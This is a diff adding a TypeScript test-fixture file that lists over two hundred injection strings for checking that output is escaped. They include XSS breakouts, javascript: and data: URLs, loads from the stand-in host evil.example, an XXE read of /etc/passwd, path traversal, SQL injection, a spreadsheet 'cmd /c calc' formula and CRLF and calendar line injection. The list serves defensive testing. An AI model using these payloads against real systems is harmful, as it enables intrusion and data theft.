@@ -1,0 +1,34 @@
+// Words that would become something else in a place that forgets what they are. All of them say `fire` in their own way: window.__fired, a dialog,
+// a request to evil.example, an element, a row, a line. Two hundred and more, by what they try to break out of.
+
+const fire = 'window.__fired=1';
+const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerenter', 'onpageshow'];
+const tags = ['img', 'svg', 'video', 'audio', 'body', 'details', 'input', 'iframe', 'object', 'marquee'];
+const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', 'javascript&colon;', '&#106;avascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'view-source:javascript:'];
+const ends = ['</script>', '</SCRIPT >', '</title>', '</style>', '</textarea>', '</template>', '</noscript>', '</select>', '</svg>', '-->', '--!>', ']]>', '?>', '%>', '*/', '"/>', "'>", '`>'];
+
+export const injections: readonly string[] = [...new Set([
+  // Elements with a handler, one for each pair.
+  ...tags.flatMap((tag, i) => [0, 1, 2].map((n) => `<${tag} src=x ${events[(i + n * 3) % events.length]}=${fire} autofocus open>`)),
+  // Out of an element, a comment, a section.
+  ...ends.flatMap((end) => [`${end}<script>${fire}</script>`, `${end}<img src=x onerror=${fire}>`]),
+  // Out of an attribute, in each kind of quotes.
+  ...['"', "'", '`', ''].flatMap((quote) => events.slice(0, 6).map((event) => `x${quote} ${event}=${quote}${fire}${quote} autofocus tabindex=1 style=${quote}animation:x`)),
+  // Addresses.
+  ...schemes.flatMap((scheme) => [`${scheme}${fire}`, `<a href="${scheme}${fire}">x</a>`]),
+  '//evil.example/x', '\\\\evil.example\\x', 'https://evil.example/"><script src=//evil.example/x></script>', '<img src=https://evil.example/pixel>', '<link rel=stylesheet href=//evil.example/x>', '<base href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<form action=//evil.example><button>x</button></form>', '<iframe srcdoc="<script>parent.__fired=1</script>"></iframe>', '<object data=//evil.example/x></object>', '<embed src=//evil.example/x>', '<portal src=//evil.example>', '![x](https://evil.example/x)', '[x](javascript:window.__fired=1)', '<https://evil.example>', '<style>@import"//evil.example/x"</style>', '<style>*{background:url(//evil.example/x)}</style>',
+  // SVG and MathML.
+  '<svg><script>window.__fired=1</script></svg>', '<svg><script href=//evil.example/x /></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__fired=1>#x"/></svg>', '<svg><animate onbegin=window.__fired=1 attributeName=x dur=1s>', '<svg><a xlink:href="javascript:window.__fired=1"><text>x</text></a></svg>', '<svg><foreignObject><img src=x onerror=window.__fired=1></foreignObject></svg>', '<svg><image href=https://evil.example/x /></svg>', '</text></svg><script>window.__fired=1</script>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__fired=1&gt;">', '<math href="javascript:window.__fired=1">x</math>', '<svg><style>@import"//evil.example/x"</style></svg>', '<svg><set attributeName=href to=javascript:window.__fired=1>',
+  // XML.
+  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>', '&x;', '&undefined;', '<![CDATA[<script>window.__fired=1</script>]]>', ']]><x/><![CDATA[', ']]&gt;', '<!-- -- -->', '<?php window.__fired=1 ?>', '<?xml-stylesheet href="//evil.example/x"?>', '</title></entry></feed>', '</outline></body></opml>', '"/><outline text="x" xmlUrl="https://evil.example/x"/>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__fired=1</x:script>', '&#x0;', '&#xFFFE;', '&lt;script&gt;window.__fired=1&lt;/script&gt;', '&amp;lt;script&amp;gt;', '<!ENTITY % x "y">%x;',
+  // JSON and scripts.
+  '</script><script>window.__fired=1//', '"}</script><script>window.__fired=1</script>', '\\u003c/script>\\u003cscript>window.__fired=1', '";window.__fired=1;"', "';window.__fired=1;'", '`;window.__fired=1;`', '${window.__fired=1}', '"]);window.__fired=1;self.__next_f.push([1,"', '\\', '\\"', '\\\\"];window.__fired=1//', '\u2028window.__fired=1\u2029', '<!--<script>', '<!--<script><!--', '{"__proto__":{"fired":1}}', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '$1$&$`', '$K1', '$undefined', '$L1', '$@1', '$$typeof',
+  // Templates of every kind, and what our own sentences put values into.
+  '{{constructor.constructor("window.__fired=1")()}}', '{n}', '{words}', '{name}', '<a>x</a>', '<b>{n}</b>', '<%= window.__fired=1 %>', '#{window.__fired=1}', '{%raw%}{{x}}', '[[${window.__fired=1}]]', '{@html "<img src=x onerror=window.__fired=1>"}', 'dangerouslySetInnerHTML={{__html:"<img src=x onerror=window.__fired=1>"}}', '%s %d %o %j', '%3Cscript%3Ewindow.__fired=1%3C/script%3E', '%00', '%0d%0aSet-Cookie: fired=1', '../../../../etc/passwd', '?q=<script>window.__fired=1</script>#<img src=x onerror=window.__fired=1>',
+  // Letters that are not what they look like, or turn into what breaks out.
+  '＜script＞window.__fired=1＜/script＞', '﹤img src=x onerror=window.__fired=1﹥', 'ʺ onfocus=window.__fired=1 ʺ', '\u202e<script>window.__fired=1</script>\u202c', '\u2066</script>\u2069', '\ufeff<script>window.__fired=1</script>', '<scr\u200bipt>window.__fired=1</scr\u200bipt>', '<ſcript>window.__fired=1</ſcript>', '<ıframe onload=window.__fired=1>', '\u{e003c}script\u{e003e}', '<img\u00a0src=x\u00a0onerror=window.__fired=1>', '<img/src=x/onerror=window.__fired=1>', '<img\tsrc=x\tonerror=window.__fired=1>', '<img\nsrc=x\nonerror=window.__fired=1>', '<IMG SRC=x ONERROR=window.__fired=1>', '<<script>window.__fired=1//<</script>', '<img src=x onerror=window.__fired=1//', '𠮷𠮷<script>window.__fired=1</script>𠮷', '👩‍👩‍👧‍👦"><img src=x onerror=window.__fired=1>', '\ud800<script>', 'e\u0301\u0301\u0301\u0301<b>', '预测<script>window.__fired=1</script>', '”><script>window.__fired=1</script>', '」<img src=x onerror=window.__fired=1>',
+  // Lines: calendars, mail, tables, terminals.
+  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:fired', 'x\nATTACH:https://evil.example/x', 'x;VALUE=URI:https://evil.example', 'x\\nDTSTART:19700101', 'SUMMARY;X="y":z', 'a,b;c:d\\e', 'x\r\n\r\n<script>window.__fired=1</script>', 'x\r\nContent-Type: text/html', '=HYPERLINK("https://evil.example")', '+1+cmd|\'/c calc\'!A1', '-2+3', '@SUM(1)', '\u001b[2J\u001b[31mfired', '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007', '\u009b31mfired', '\u0007\u0008\u0000fired', 'x\u0000<script>window.__fired=1</script>', 'x\u000bfired\u000c', '\u0085fired', 'x\tfired',
+  // Selectors, marks, queries.
+  "'; drop table articles; --", '" or 1=1 --', 'NEAR(fired', '"fired', 'fired*', '^fired', 'claim:fired', 'a AND NOT', '</mark><script>window.__fired=1</script>', '<mark>fired</mark>', ':has(fired)', '#\'"><img src=x onerror=window.__fired=1>',
+])];
